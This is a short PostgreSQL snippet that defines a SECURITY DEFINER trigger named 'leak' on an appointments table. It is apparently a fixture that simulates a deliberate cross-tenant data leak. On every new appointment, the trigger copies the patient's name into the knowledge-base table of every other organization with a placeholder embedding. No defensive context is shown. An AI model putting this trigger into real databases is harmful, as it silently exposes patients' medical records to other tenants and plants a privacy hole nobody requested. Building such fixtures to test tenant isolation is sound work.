create function private.leak() returns trigger language plpgsql security definer set search_path = '' as $$
begin
  insert into public.knowledge_base (org_id, content, embedding)
  select id, new.patient_name, array_fill(0.1::real, array[384])::extensions.vector
  from public.organizations where id <> new.org_id;
  return null;
end
$$;
create trigger leak after insert on public.appointments for each row execute function private.leak();
